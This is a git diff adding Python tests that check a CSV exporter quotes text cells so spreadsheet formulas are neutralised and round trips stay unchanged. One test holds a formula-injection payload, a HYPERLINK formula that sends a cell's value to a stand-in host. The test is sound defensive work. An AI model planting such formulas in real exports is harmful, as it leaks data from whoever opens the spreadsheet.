@@ -10,7 +10,7 @@ from sqlalchemy import Table, delete, select
 from sqlalchemy.orm import Session, sessionmaker
 
 from matching.columns import ENTITIES
-from matching.exchange import export_all, import_paths
+from matching.exchange import export_all, exporting, import_paths
 from matching.store import models as m
 from tests.matching.exchange.conftest import REGION_SMALL
 
@@ -88,3 +88,26 @@ def test_round_trip_keeps_the_stored_state(sessions: Sessions, tmp_path: Path) -
     assert report.ok and report.total("inserted") == 36
     assert stored_state(sessions) == before
     assert export(sessions, tmp_path / "second") == first
+
+
+def test_formulas_are_quoted_on_export_and_the_round_trip_keeps_them(
+    sessions: Sessions, tmp_path: Path
+) -> None:
+    import_paths(sessions, [REGION_SMALL])
+    names = {"28011111": '=HYPERLINK("http://x/?leak="&B2,"Klik")', "28022222": "'t Hof"}
+    with sessions.begin() as session:
+        for employer_id, name in names.items():
+            session.get_one(m.Employer, employer_id).name = name
+    before = stored_state(sessions)
+    first = export(sessions, tmp_path / "first")
+    employers = first["employers.csv"].decode()
+    assert '\n28011111,"\'=HYPERLINK(""http://x/?leak=""&B2,""Klik"")",' in employers
+    assert "28022222,'t Hof," in employers
+    empty_store(sessions)
+    assert import_paths(sessions, [tmp_path / "first"]).ok
+    assert stored_state(sessions) == before
+    assert export(sessions, tmp_path / "second") == first
+
+
+def test_only_text_cells_are_quoted() -> None:
+    assert (exporting._cell(-3), exporting._cell("-3"), exporting._cell(None)) == ("-3", "'-3", "")
